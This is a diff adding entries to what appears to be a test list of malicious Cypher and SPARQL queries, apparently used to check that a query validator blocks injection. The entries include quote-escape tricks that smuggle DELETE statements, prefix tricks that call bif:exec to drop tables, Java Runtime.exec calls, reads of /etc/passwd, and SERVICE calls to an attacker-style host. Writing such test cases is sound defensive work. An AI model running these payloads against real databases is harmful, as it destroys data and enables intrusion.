@@ -151,6 +151,8 @@ MATCH (n) WHERE n.`\\u0060 DELETE n //` = 1
 MATCH (n) // \\u000a DELETE n
 MATCH (n) WHERE n.x > 1.SET n.y = 2
 MATCH (n) WHERE n.x > 1SET n.y = 2
+MATCH (n) WHERE n.x > 1e.SET n.y = 2
+MATCH (n) WHERE n.x = '\\uu0027 DELETE n //'
 MATCH (n) WHERE n.x = 'unclosed DELETE n
 MATCH (n) /* unclosed DELETE n
 MATCH (n:`unclosed) DELETE n
@@ -210,6 +212,10 @@ SELECT * { ?s ?p "\\" } ; DROP ALL #" }
 SELECT (bif:exec('drop table x') AS ?x) { ?s ?p ?o }
 SELECT (<bif:exec>('drop table x') AS ?x) { ?s ?p ?o }
 SELECT (sql:evil() AS ?x) { }
+SELECT (LONG::bif:exec('drop table x') AS ?x) { ?s ?p ?o }
+PREFIX b: <bi> SELECT (b:f:exec('drop table x') AS ?x) { ?s ?p ?o }
+PREFIX b: <BI> PREFIX b: <urn:x> SELECT (b:f:exec('drop table x') AS ?x) { ?s b: <urn:y> }
+SELECT * { ?s ?p '\\uu0027 } SERVICE <http://evil.example/> { ?a ?b ?c } #'}
 SELECT (<java:java.lang.Runtime.exec>('x') AS ?x) { }
 SELECT * { ?s ?p ?o . FILTER(<file:///etc/passwd>(?o)) }
 SELECT * { ?s ?p <urn:a>.SERVICE <http://evil.example/> { ?a ?b ?c } }
